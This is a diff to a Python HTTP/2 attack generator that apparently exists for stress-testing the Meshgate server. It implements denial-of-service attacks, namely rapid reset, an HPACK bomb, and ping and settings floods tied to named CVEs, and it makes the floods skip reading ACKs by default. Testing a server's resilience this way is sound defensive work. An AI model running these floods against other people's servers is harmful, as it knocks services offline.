@@ -2,7 +2,7 @@
 """HTTP/2 attack generator for testing Meshgate's h2 server (and any other h2 server).
 
 Usage: h2attack.py ATTACK HOST PORT [--seconds S] [--tls] [--sni NAME] [--path P]
-                   [--max-conns N] [--authority A]
+                   [--max-conns N] [--authority A] [--read]
 
 ATTACK is one of
   rapid-reset   CVE-2023-44487: open a stream (HEADERS, END_STREAM) and reset it (RST_STREAM
@@ -11,8 +11,10 @@ ATTACK is one of
                 (16 KiB each, never END_HEADERS) full of distinct literal header fields.
   hpack-bomb    HPACK bomb: one 4 KiB header value put in the dynamic table, then referenced
                 by one-byte indexed fields: every 16 KiB HEADERS frame decodes to ~64 MiB.
-  ping-flood    PING frames as fast as possible; the replies are read only now and then.
-  settings-flood SETTINGS frames (6 settings each) as fast as possible.
+  ping-flood    PING frames as fast as possible, never reading the PING ACKs
+                (CVE-2019-9512); with --read, reading them every 20000 frames.
+  settings-flood SETTINGS frames (6 settings each) as fast as possible, never reading the
+                ACKs (CVE-2019-9515); with --read, reading them every 20000 frames.
   zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, GET PATH, never a WINDOW_UPDATE: the
                 server cannot send the body; it must close the connection after its idle
                 timeout.  Holds one connection for at most SECONDS.
@@ -110,6 +112,7 @@ class Conn:
         self.goaway = False
         self.next_stream = 1
         self.in_header_block = False  # no other frame may be sent (no SETTINGS ACK either)
+        self.no_read = args.attack in ("ping-flood", "settings-flood") and not args.read
         stats["connections"] += 1
 
     def send(self, data):
@@ -124,7 +127,8 @@ class Conn:
             except (socket.timeout, ssl.SSLWantWriteError):
                 self.stats["stalled_writes"] += time.monotonic() - t0
                 t0 = time.monotonic()
-                self.poll()  # read what the server says (GOAWAY?) while it does not read
+                if not self.no_read:
+                    self.poll()  # read what the server says (GOAWAY?) while it does not read
                 if self.closed:
                     return False
                 continue
@@ -275,7 +279,7 @@ def ping_flood(c, args, stats):
         if not c.send(batch):
             return
         stats["frames_sent"] += 500
-        if n % 20000 == 0:  # read the replies only now and then
+        if args.read and n % 20000 == 0:  # with --read: the replies, now and then
             c.poll()
 
 
@@ -288,7 +292,7 @@ def settings_flood(c, args, stats):
             return
         n += 200
         stats["frames_sent"] += 200
-        if n % 10000 == 0:
+        if args.read and n % 20000 == 0:  # with --read: the ACKs, now and then
             c.poll()
 
 
@@ -319,6 +323,8 @@ def main():
     ap.add_argument("--path", default="/")
     ap.add_argument("--authority", default=None)
     ap.add_argument("--max-conns", type=int, default=50)
+    ap.add_argument("--read", action="store_true",
+                    help="ping-flood, settings-flood: read the replies now and then")
     args = ap.parse_args()
     if not 0 < args.seconds <= 600 or not 0 < args.max_conns <= 10000:
         ap.error("--seconds must be in (0, 600], --max-conns in (0, 10000]")
